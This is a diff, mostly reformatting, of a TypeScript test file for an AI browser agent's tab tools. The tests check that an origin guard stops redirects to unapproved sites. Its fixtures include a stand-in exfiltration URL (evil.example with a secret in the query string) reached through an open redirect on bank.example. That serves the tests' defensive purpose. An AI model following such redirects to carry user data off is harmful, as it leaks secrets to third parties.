@@ -47,23 +47,53 @@ function setup() {
   /** A click on the page that sets off a navigation (a link to `href`). */
   let clickGoesTo: string | undefined;
   const click = defineTool({
-    name: 'click', input: z.object({}), runsIn: 'page', readOnly: false, needsApproval: true,
+    name: 'click',
+    input: z.object({}),
+    runsIn: 'page',
+    readOnly: false,
+    needsApproval: true,
     execute: (_i, ctx) => {
       if (clickGoesTo) load(ctx.tabId!, clickGoesTo);
       return 'Clicked.';
     },
   }) as Tool;
-  const read = defineTool({ name: 'read_page', input: z.object({}), runsIn: 'page', readOnly: true, execute: () => 'Page text' }) as Tool;
+  const read = defineTool({
+    name: 'read_page',
+    input: z.object({}),
+    runsIn: 'page',
+    readOnly: true,
+    execute: () => 'Page text',
+  }) as Tool;
   const tools = createTabTools([read, click], {
-    store: createRunTabsStore(area()), facts: async () => ({ mentionedTabIds: [], deniedOrigins: [], title: 'Run' }), browser: fake.browser, guard,
+    store: createRunTabsStore(area()),
+    facts: async () => ({ mentionedTabIds: [], deniedOrigins: [], title: 'Run' }),
+    browser: fake.browser,
+    guard,
   });
   const tool = (name: string) => tools.find((t) => t.name === name)!;
   const ctx: ToolContext = {
-    runId: 'r1', toolCallId: 'c1', signal: new AbortController().signal, tabId: 1, site: 'https://bank.example',
-    agentPath: [], delegate: async () => '', now: () => Date.now(),
+    runId: 'r1',
+    toolCallId: 'c1',
+    signal: new AbortController().signal,
+    tabId: 1,
+    site: 'https://bank.example',
+    agentPath: [],
+    delegate: async () => '',
+    now: () => Date.now(),
   };
-  const run = async (name: string, input: unknown, extra: Partial<ToolContext> = {}) => tool(name).execute(tool(name).input.parse(input), { ...ctx, ...extra });
-  return { dnr, guard, fake, sent, run, navigate, setClick: (href: string | undefined) => { clickGoesTo = href; } };
+  const run = async (name: string, input: unknown, extra: Partial<ToolContext> = {}) =>
+    tool(name).execute(tool(name).input.parse(input), { ...ctx, ...extra });
+  return {
+    dnr,
+    guard,
+    fake,
+    sent,
+    run,
+    navigate,
+    setClick: (href: string | undefined) => {
+      clickGoesTo = href;
+    },
+  };
 }
 
 const SECRET_URL = 'https://evil.example/?s=SECRET';
@@ -71,9 +101,13 @@ const SECRET_URL = 'https://evil.example/?s=SECRET';
 describe('tab tools behind the run origin guard', () => {
   it('navigate to a known origin that redirects elsewhere: the hop is stopped before it leaves and the call says where it went', async () => {
     const { run, sent, dnr } = setup();
-    const error = await run('navigate', { url: `https://bank.example/go?to=${encodeURIComponent(SECRET_URL)}` }).catch((e: unknown) => e);
+    const error = await run('navigate', { url: `https://bank.example/go?to=${encodeURIComponent(SECRET_URL)}` }).catch(
+      (e: unknown) => e,
+    );
     expect(error).toBeInstanceOf(ToolError);
-    expect((error as Error).message).toBe('The page redirected to https://evil.example, which this run has not been approved for; the request was stopped before it left. Call navigate with that address if it is needed: the user will be asked.');
+    expect((error as Error).message).toBe(
+      'The page redirected to https://evil.example, which this run has not been approved for; the request was stopped before it left. Call navigate with that address if it is needed: the user will be asked.',
+    );
     expect(sent.filter((u) => u.startsWith('https://evil.example'))).toEqual([]);
     expect(sent).toEqual([`https://bank.example/go?to=${encodeURIComponent(SECRET_URL)}`]);
     // The user's other tab is not the run's: nothing there is blocked.
@@ -84,13 +118,17 @@ describe('tab tools behind the run origin guard', () => {
     const { run, sent } = setup();
     expect(await run('navigate', { url: SECRET_URL })).toMatch(/Navigated/);
     expect(sent).toEqual([SECRET_URL]);
-    expect(await run('navigate', { url: `https://bank.example/go?to=${encodeURIComponent('https://evil.example/b')}` })).toMatch(/Navigated/);
+    expect(
+      await run('navigate', { url: `https://bank.example/go?to=${encodeURIComponent('https://evil.example/b')}` }),
+    ).toMatch(/Navigated/);
     expect(sent.at(-1)).toBe('https://evil.example/b');
   });
 
   it('open_tab guards the new tab before it loads anything', async () => {
     const { run, sent, fake } = setup();
-    await expect(run('open_tab', { url: `https://bank.example/go?to=${encodeURIComponent(SECRET_URL)}` })).rejects.toThrow(/redirected to https:\/\/evil\.example.*stopped before it left/);
+    await expect(
+      run('open_tab', { url: `https://bank.example/go?to=${encodeURIComponent(SECRET_URL)}` }),
+    ).rejects.toThrow(/redirected to https:\/\/evil\.example.*stopped before it left/);
     expect(sent.some((u) => u.startsWith('https://evil.example'))).toBe(false);
     expect(fake.open.has(100)).toBe(true);
   });
@@ -98,7 +136,9 @@ describe('tab tools behind the run origin guard', () => {
   it('a click that sets off a hop is guarded on the origin it acted on, and reports the hop', async () => {
     const { run, sent, setClick } = setup();
     setClick(`https://bank.example/go?to=${encodeURIComponent(SECRET_URL)}`);
-    await expect(run('click', {}, { target: { origin: 'https://bank.example' } })).rejects.toThrow(/^click was done\. The page redirected to https:\/\/evil\.example/);
+    await expect(run('click', {}, { target: { origin: 'https://bank.example' } })).rejects.toThrow(
+      /^click was done\. The page redirected to https:\/\/evil\.example/,
+    );
     expect(sent.some((u) => u.startsWith('https://evil.example'))).toBe(false);
     setClick('https://bank.example/next');
     expect(await run('click', {}, { target: { origin: 'https://bank.example' } })).toBe('Clicked.');
@@ -113,7 +153,7 @@ describe('tab tools behind the run origin guard', () => {
     expect(await run('read_page', {})).toBe('Page text');
   });
 
-  it('going back (approved) into the user\'s own history on another site is let through, and that site joins the run', async () => {
+  it("going back (approved) into the user's own history on another site is let through, and that site joins the run", async () => {
     const { run, sent, dnr, fake, navigate } = setup();
     // Before the run, the user came to the statement from another site.
     Object.assign(fake.open.get(1)!, { url: 'https://news.example/' });
